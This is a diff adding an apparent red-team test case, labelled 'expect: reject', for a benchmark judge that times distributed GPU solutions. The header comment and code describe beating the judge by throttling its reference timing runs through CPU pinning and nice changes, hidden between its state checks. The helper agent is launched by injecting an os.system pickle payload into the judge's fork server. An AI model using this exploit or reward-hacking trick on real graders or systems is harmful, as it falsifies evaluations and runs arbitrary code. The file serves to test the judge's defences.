@@ -1,0 +1,133 @@
+# expect: reject
+# Time-of-check/time-of-use hole in the `interference` check (isolate.sched_state / Session._interference):
+# the judge compares the reference ranks' scheduling state (policy, nice, CPU affinity, cgroup) only
+# BEFORE each reference timing job, never during or after it. An agent that is not stopped while the
+# reference is timed (here: a process obtained from the judge's own fork server, see forkserver_hog)
+# waits until the candidate's ranks are SIGSTOPped for the 2nd and 3rd time (the two timed reference
+# jobs; the warm-up is left alone because the next check follows its end within microseconds), then
+# pins every thread of both reference ranks to ONE CPU with nice 19 and spins on that CPU itself most
+# of the time,
+# and puts everything back (affinity, nice) as soon as the candidate's ranks are continued. Every
+# check sees the original state; the reference is timed throttled. The solution is honest.
+import array
+import os
+import socket
+import sys
+
+import torch
+import torch.distributed as dist
+
+AGENT = r'''
+import os, sys, time
+me = int(sys.argv[1]); cands = set(int(p) for p in sys.argv[2].split(","))
+server = int(sys.argv[3]); skip = {os.getpid(), os.getppid()}
+end = time.time() + 300
+def state(pid):
+    try:
+        with open("/proc/%d/stat" % pid, "rb") as f:
+            return f.read().rsplit(b")", 1)[1].split()
+    except OSError:
+        return None
+def refs():
+    out = []
+    for n in os.listdir("/proc"):
+        if n.isdigit():
+            p = int(n); s = state(p)
+            if s and int(s[1]) == server and p not in cands and p not in skip:
+                out.append(p)
+    return out
+saved = {}
+def apply():
+    for p in refs():
+        for t in os.listdir("/proc/%d/task" % p):
+            t = int(t)
+            try:
+                saved[t] = (os.sched_getaffinity(t), os.getpriority(os.PRIO_PROCESS, t))
+                os.sched_setaffinity(t, {0}); os.setpriority(os.PRIO_PROCESS, t, 19)
+            except OSError:
+                pass
+def restore():
+    for t, (cpus, nice) in saved.items():
+        try:
+            os.sched_setaffinity(t, cpus); os.setpriority(os.PRIO_PROCESS, t, nice)
+        except OSError:
+            pass
+    saved.clear()
+stops, was = 0, False
+mine = os.sched_getaffinity(0)
+while time.time() < end:
+    s = state(me)
+    if s is None or s[0] == b"Z":
+        break
+    stopped = s[0] in (b"T", b"t")
+    if stopped and not was:
+        stops += 1
+        if stops >= 2:
+            apply(); os.sched_setaffinity(0, {0})
+    if not stopped and was:
+        restore(); os.sched_setaffinity(0, mine)
+    was = stopped
+    if stopped and saved:  # mostly spinning on the pinned CPU (tunable to stay under the 10x review bound)
+        t = time.perf_counter()
+        while time.perf_counter() - t < 0.002:
+            pass
+        time.sleep(0.0002)
+    else:
+        time.sleep(0.0005)
+restore()
+'''
+
+
+def _listener_path():
+    ppid = os.getppid()
+    inodes = set()
+    for fd in os.listdir(f"/proc/{ppid}/fd"):
+        try:
+            link = os.readlink(f"/proc/{ppid}/fd/{fd}")
+        except OSError:
+            continue
+        if link.startswith("socket:["):
+            inodes.add(link[8:-1])
+    with open("/proc/net/unix") as f:
+        for line in f.read().splitlines()[1:]:
+            parts = line.split()
+            if len(parts) >= 8 and parts[6] in inodes and parts[5] == "01":
+                return parts[7]
+    return None
+
+
+def _spawn_via_forkserver(cmd):
+    path = _listener_path()
+    if path is None:
+        return False
+    child_r, parent_w = os.pipe()
+    status_r, child_w = os.pipe()
+    a_r, a_w = os.pipe()
+    with socket.socket(socket.AF_UNIX) as s:
+        s.connect(path)
+        fds = array.array("i", [child_r, child_w, a_r, a_w])
+        s.sendmsg([bytes([4])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
+    # protocol-0 pickle: os.system(cmd) runs while the child unpickles its "preparation data"
+    payload = b"cposix\nsystem\n(V" + cmd.encode("raw_unicode_escape") + b"\ntR."
+    os.write(parent_w, payload)
+    for fd in (child_r, child_w, a_r, a_w, parent_w):
+        os.close(fd)
+    return True
+
+
+pids = torch.tensor([os.getpid()], dtype=torch.int64)
+allp = [torch.zeros_like(pids) for _ in range(dist.get_world_size())] if dist.is_initialized() else []
+if dist.is_initialized():
+    dist.all_gather(allp, pids)
+if dist.is_initialized() and dist.get_rank() == 0:
+    agent_file = f"/tmp/.mgb_rt3_agent_{os.getpid()}.py"
+    with open(agent_file, "w") as f:
+        f.write(AGENT)
+    cands = ",".join(str(int(p)) for p in allp)
+    _spawn_via_forkserver(f"exec {sys.executable} {agent_file} {os.getpid()} {cands} {os.getppid()}")
+
+
+def solution(x):
+    y = x.clone()
+    dist.all_reduce(y, op=dist.ReduceOp.SUM)
+    return y
